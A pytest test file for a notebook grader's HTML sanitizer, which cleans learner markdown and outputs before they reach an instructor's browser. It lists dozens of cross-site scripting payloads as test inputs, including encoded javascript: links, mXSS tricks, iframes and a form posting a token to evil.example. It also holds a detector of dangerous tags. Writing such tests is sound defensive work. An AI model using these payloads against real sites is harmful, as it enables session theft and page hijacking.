"""grader/learner_html.py, the allow-list between what learners write and the instructor's
browser: hostile markdown and outputs come out inert, ordinary ones stay readable.

Each cleaned page is read back with Python's own HTML parser (entities decoded, as a browser
decodes them) and searched for anything that could run or leave the page: a tag off the list,
an event handler or style attribute, a URL with another scheme than http(s)/mailto (data:image
for images only). Every hostile input holds a string that a missing rule would let through.
"""

from __future__ import annotations

import base64
import html
import re
import time
from html.parser import HTMLParser

import nbformat
import pytest

from grader.learner_html import LearnerHTML, clean, markdown2html, shown_metadata
from grader.safegrade.grading_limits import LIMITS

SAFE_SCHEMES = ("http:", "https:", "mailto:")
IMAGE_DATA = re.compile(r"data:image/(png|jpeg|gif|webp|svg\+xml)[;,]")


class Page(HTMLParser):
    """The tags, attributes and text of a cleaned fragment, as a browser would read them."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def scheme(url: str) -> str:
    """The scheme a browser sees: ASCII whitespace and control characters removed first."""
    squeezed = re.sub(r"[\x00-\x20]", "", url).lower()
    found = re.match(r"[a-z][a-z0-9+.-]*:", squeezed)
    return found.group(0) if found else ""


def dangers(html: str) -> list[str]:
    """Everything in html that could run a script, style or frame the page, or send a form."""
    found = []
    for tag, attributes in Page(html).tags:
        if tag in {"script", "style", "iframe", "frame", "object", "embed", "svg", "math"}:
            found.append(f"<{tag}>")
        if tag in {"form", "input", "button", "meta", "base", "link", "template", "noscript"}:
            found.append(f"<{tag}>")
        for name, value in attributes.items():
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "action"}:
                found.append(f"<{tag} {name}>")
            if name in {"href", "src", "xlink:href", "background", "poster", "srcset"}:
                kind = scheme(value)
                image = tag == "img" and name == "src" and IMAGE_DATA.match(value.strip())
                if kind and kind not in SAFE_SCHEMES and not image:
                    found.append(f"<{tag} {name}={value[:40]!r}>")
    return found


def markdown_cell_shown(source: str, attachments=None) -> str:
    cell = nbformat.v4.new_markdown_cell(source)
    if attachments:
        cell.attachments = attachments
    shown, _ = LearnerHTML().preprocess_cell(cell, {}, 0)
    return shown.source


# Each is given as a markdown cell and as an HTML output (which is cleaned without markdown).
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script_in_paragraph": "Look: <script src=https://evil.example/x.js></script> here",
    "event_handler": "<img src=x onerror=alert(1)>",
    "handler_in_capitals": "<IMG SRC=x OnError=alert(1)>",
    "handler_after_newline": "<img src=x\nonerror=alert(1)>",
    "details_ontoggle": "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "markdown_javascript_link": "[click](javascript:alert(1))",
    "markdown_mixed_case_link": "[click](JaVaScRiPt:alert(1))",
    "markdown_image_javascript": "![x](javascript:alert(1))",
    "autolink_javascript": "<javascript:alert(1)>",
    "reference_link": "[click][x]\n\n[x]: javascript:alert(1)",
    "tab_in_scheme": '<a href="java&#x09;script:alert(1)">x</a>',
    "entity_encoded_scheme": '<a href="&#106;avascript:alert(1)">x</a>',
    "padded_entities": '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
    "encoded_colon": '<a href="javascript&colon;alert(1)">x</a>',
    "leading_space_and_newline": '<a href=" \njavascript:alert(1)">x</a>',
    "svg_onload": "<svg onload=alert(1)><circle r=4 /></svg>",
    "svg_xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg_script": "<svg><script>alert(1)</script></svg>",
    "math_mxss": (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>"
        "</mglyph></table></mtext></math>"
    ),
    "math_href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "style_tag_url": "<style>body{background:url(javascript:alert(1))}</style>",
    "style_attribute_url": '<div style="background:url(https://evil.example/track.png)">x</div>',
    "style_expression": '<p style="width:expression(alert(1))">x</p>',
    "data_html_link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data_html_image": '<img src="data:text/html,<script>alert(1)</script>">',
    "data_svg_link": '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe_srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object_embed": '<object data="x.swf"></object><embed src="x.swf">',
    "form": (
        '<form action="https://evil.example/steal"><input name=token>'
        "<button formaction=javascript:alert(1)>Go</button></form>"
    ),
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base_href": '<base href="https://evil.example/">',
    "stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "unclosed_tag": '<img src="x" onerror="alert(1)"',
    "split_script": "<scr<script>ipt>alert(1)</script>",
    "doubled_brackets": "<<script>script>alert(1)<</script>/script>",
    "unclosed_attribute": '<a href="javascript:alert(1)"<b>x</b>',
    "comment_trick": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "noscript_title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "escaped_stays_text": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "double_escaped": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "html_then_blank_line": '<div title="x">\n\n[click](javascript:alert(1))\n\n</div>',
    # markup shown as text (too deep, too many tags): escaped, it stays as inert
    "deep_then_script": "<div>" * 60 + "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "many_then_handler": "<b>x</b>" * 2500 + '<a href="javascript:alert(1)">x</a>',
}


# What follows a learner's fragment on the instructor's page: an unclosed tag must not take it in.
PAGE_GOES_ON = '<p class="after">the page goes on</p>'


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE)
def test_hostile_markdown_and_html_come_out_inert(source: str):
    as_markdown = markdown_cell_shown(source)
    as_output = shown_outputs(display({"text/html": source}))[0]["data"]["text/html"]
    for shown in (as_markdown, as_output):
        assert not dangers(shown + PAGE_GOES_ON), (dangers(shown + PAGE_GOES_ON), shown)
        assert shown.startswith("<div>") and shown.endswith("</div>") and "\n" not in shown
        assert Page(shown + PAGE_GOES_ON).tags[-1] == ("p", {"class": "after"}), shown


def test_the_danger_finder_finds_what_it_looks_for():
    """The checker itself: each hostile input, uncleaned, is found dangerous as markdown or as
    HTML (else the test above could pass whatever the cleaner did)."""
    missed = [
        name
        for name, source in HOSTILE.items()
        if not dangers(markdown2html(source) + PAGE_GOES_ON)
        and not dangers(source + PAGE_GOES_ON)
        and name not in ("escaped_stays_text", "double_escaped")
    ]
    assert not missed, missed


def test_escaped_markup_stays_visible_text():
    page = Page(markdown_cell_shown(HOSTILE["escaped_stays_text"]))
    assert "<script>alert(1)</script>" in "".join(page.text)
    assert not [tag for tag, _ in page.tags if tag == "script"]


def shown_outputs(*outputs) -> list[dict]:
    cell = nbformat.v4.new_code_cell("x")
    cell.outputs = list(outputs)
    shown, _ = LearnerHTML().preprocess_cell(cell, {}, 0)
    return [dict(output) for output in shown.outputs]


def display(data: dict, metadata: dict | None = None):
    return nbformat.v4.new_output("display_data", data=data, metadata=metadata or {})


def test_hostile_outputs_come_out_inert():
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
    )
    outputs = shown_outputs(
        display({"text/html": "<b onclick=alert(1)>hi</b><script>alert(1)</script>"}),
        display({"text/markdown": "[x](javascript:alert(1)) <img src=x onerror=alert(1)>"}),
        display({"image/svg+xml": svg}),
        display({"application/javascript": "alert(1)", "text/plain": "js"}),
        display({"application/vnd.jupyter.widget-view+json": {"model_id": "m"}, "text/plain": "w"}),
        display({"image/png": "iVBORw0KGgo="}, {"width": "1 onerror=alert(1)", "height": 30}),
    )
    for output in outputs:
        for kind, value in output.get("data", {}).items():
            if kind == "text/html":
                assert not dangers(value), (dangers(value), value)
        assert not {"application/javascript", "image/svg+xml"} & set(output["data"])
        assert not any("widget" in kind for kind in output["data"])
    svg_shown = Page(outputs[2]["data"]["text/html"]).tags
    assert [tag for tag, _ in svg_shown] == ["div", "img"]  # an image: its scripts never run
    source = svg_shown[1][1]["src"]
    assert base64.b64decode(source.split(",", 1)[1]).decode() == svg
    assert outputs[3]["data"] == {"text/plain": "js"}
    assert outputs[5]["metadata"] == {"height": 30}


@pytest.mark.parametrize(
    ("metadata", "kept"),
    [
        ({"width": 400, "height": "300px"}, {"width": 400, "height": "300px"}),
        ({"width": '1" onerror="alert(1)'}, {}),
        ({"image/png": {"width": "50%", "title": "<script>"}}, {"image/png": {"width": "50%"}}),
        ({"unconfined": "yes", "isolated": True}, {}),
        ({"image/png": "not a dict", "height": None}, {}),
    ],
)
def test_output_metadata_keeps_numeric_sizes_only(metadata, kept):
    assert shown_metadata(metadata) == kept


def test_plain_markdown_stays_readable():
    shown = markdown_cell_shown(
        "# My answer\n\nThe graph has *three* nodes and **one** output; see "
        "[the docs](https://pytorch.org/docs/stable/fx.html), [me](mailto:a@example.org) and "
        "[chapter 2](../02_fx_ir.ipynb#nodes).\n\n- first\n- second\n\n> a quote\n\n$x^2 + 1$"
    )
    page = Page(shown)
    tags = [tag for tag, _ in page.tags]
    assert {"h1", "em", "strong", "ul", "li", "blockquote"} <= set(tags), tags
    links = [attributes["href"] for tag, attributes in page.tags if tag == "a"]
    links = [link for link in links if not link.startswith("#")]  # the heading's own anchor
    assert links == [
        "https://pytorch.org/docs/stable/fx.html",
        "mailto:a@example.org",
        "../02_fx_ir.ipynb#nodes",
    ]
    assert "$x^2 + 1$" in "".join(page.text)
    assert not dangers(shown)


def test_tables_and_allowed_images_are_kept():
    png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJ"
    png += "RU5ErkJggg=="
    shown = markdown_cell_shown(
        "| op | count |\n|---|---|\n| relu | 2 |\n\n"
        "![plot](https://example.org/plot.png) ![pasted](attachment:dot.png) "
        f'<img src="data:image/png;base64,{png}" alt="inline" width="20">',
        attachments={"dot.png": {"image/png": png}},
    )
    page = Page(shown)
    cells = [tag for tag, _ in page.tags if tag in ("table", "th", "td")]
    assert cells.count("table") == 1 and cells.count("th") == 2 and cells.count("td") == 2
    sources = [attributes["src"] for tag, attributes in page.tags if tag == "img"]
    assert sources[0] == "https://example.org/plot.png"
    assert all(source.startswith("data:image/png;base64,") for source in sources[1:])
    assert len(sources) == 3 and not dangers(shown)


def test_a_missing_attachment_is_an_empty_image_not_an_error():
    shown = markdown_cell_shown("before ![gone](attachment:nowhere.png) after")
    assert "before" in shown and "after" in shown and not dangers(shown)


def test_code_blocks_stay_readable():
    code = "if a < b and c > d:\n    print('<b>&amp;</b>')"
    page = Page(markdown_cell_shown(f"```python\n{code}\n```\n\nand `x < y` inline"))
    text = "".join(page.text)
    assert code in text, text
    assert "x < y" in text
    assert "pre" in [tag for tag, _ in page.tags]


def test_clean_keeps_the_fragment_on_one_line():
    """The templates render markdown cells through markdown again: a raw HTML block on one line
    stays one untouched block there."""
    shown = clean("<p>one\n\ntwo\r\n</p>")
    assert shown == "<div><p>one&#10;&#10;two&#10;</p></div>"


# bleach's time grows with the square of the nesting (30,000 nested divs: a minute), mistune's
# and bleach's with the size and the tags (a markdown table of 20,000 rows: two minutes).
TANGLED = {
    "nested_divs": "<div>" * 30_000 + "deep" + "</div>" * 30_000,
    "long_table": "|a|b|\n|-|-|\n" + "|x|y|\n" * 20_000,
    "unclosed_formatting": "<b>" * 3000 + "<p>y</p>" * 3000,
    "huge_text": "word " * 100_000,
}


@pytest.mark.parametrize("source", TANGLED.values(), ids=TANGLED)
def test_markup_too_big_or_deep_to_clean_quickly_is_shown_as_text(source):
    started = time.monotonic()
    for shown in (
        markdown_cell_shown(source),
        shown_outputs(display({"text/html": source}))[0]["data"]["text/html"],
    ):
        assert shown.startswith("<div><p><em>Shown as text: it") and "\n" not in shown
        assert html.escape(source[:2000]).replace("\n", "&#10;") in shown
        assert not dangers(shown)
    print(f"shown as text in {time.monotonic() - started:.2f} s")


def test_markup_within_the_bounds_is_cleaned_not_shown_as_text():
    nested = "<div>" * 40 + "<b>deep</b>" + "</div>" * 40
    table = "|a|b|\n|-|-|\n" + "|x|y|\n" * 200
    for source in (nested, table):
        shown = markdown_cell_shown(source)
        assert "Shown as text" not in shown and ("<b>deep</b>" in shown or "<td>x</td>" in shown)


def test_a_notebook_past_its_time_limit_shows_the_rest_as_text(monkeypatch):
    """Each notebook's markup has a time limit (LIMITS.learner_html_time): once spent, every
    later markdown cell is shown as escaped text, every output as plain text and images."""
    monkeypatch.setattr(LIMITS, "learner_html_time", 0.0)
    cell = nbformat.v4.new_code_cell("x")
    cell.outputs = [display({"text/html": "<b>bold</b>", "text/plain": "bold", "image/png": "iV"})]
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("**hi**"), cell])
    shown, _ = LearnerHTML().preprocess(nb, {})
    assert "Shown as text: cleaning this notebook" in shown.cells[0].source
    assert "**hi**" in shown.cells[0].source
    assert shown.cells[1].outputs[0]["data"] == {"text/plain": "bold", "image/png": "iV"}


def test_the_formgraders_exporter_shows_deep_markup_as_text():
    """The formgrader renders a submission with nbconvert's HTMLExporter configured as
    grader/nbgrader_config.py configures it (LearnerHTML first)."""
    from nbconvert import HTMLExporter
    from traitlets.config import Config

    cell = nbformat.v4.new_code_cell("x")
    cell.outputs = [display({"text/html": TANGLED["nested_divs"]})]
    nb = nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_markdown_cell(TANGLED["nested_divs"]), cell]
    )
    config = Config({"HTMLExporter": {"preprocessors": [LearnerHTML]}})
    started = time.monotonic()
    page, _ = HTMLExporter(config=config).from_notebook_node(nb)
    print(f"exported in {time.monotonic() - started:.2f} s")
    assert page.count("Shown as text: it is 330004 characters long") == 2


def test_a_notebooks_page_shows_at_most_its_budget_of_characters():
    """nbconvert parses the whole page again (BeautifulSoup: seconds per 100,000 escaped
    characters): what a notebook's cells show is cut at learner_html_notebook_chars, counted
    escaped, with a note."""
    printing = nbformat.v4.new_code_cell("print('<' * 20_000)")
    printing.outputs = [nbformat.v4.new_output("stream", name="stdout", text="<" * 20_000)]
    cells = [nbformat.v4.new_markdown_cell("**bold** " * 500)] + [printing] * 5
    shown, _ = LearnerHTML().preprocess(nbformat.v4.new_notebook(cells=cells), {})
    texts = [cell.source for cell in shown.cells]
    texts += [o["text"] for cell in shown.cells[1:] for o in cell.outputs]
    escaped = sum(len(html.escape(text, quote=False)) for text in texts)
    assert escaped < LIMITS.learner_html_notebook_chars + 1000
    assert "<strong>bold</strong>" in shown.cells[0].source
    assert shown.cells[-1].outputs[0]["text"].endswith("characters]")
